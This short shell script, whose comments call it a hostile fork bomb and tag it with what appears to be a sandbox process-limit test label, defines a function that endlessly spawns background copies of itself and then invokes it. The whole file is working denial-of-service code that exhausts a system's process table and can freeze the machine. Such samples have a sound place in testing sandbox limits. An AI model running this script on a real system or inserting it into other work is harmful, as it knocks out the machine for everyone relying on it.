# forkbomb_loop.sh - hostile shell fork bomb that keeps trying
# (SANDBOX-PROCS): every shell spawns copies of itself in a loop forever,
# ignoring "Cannot fork".
bomb() { while :; do bomb & done; }
bomb
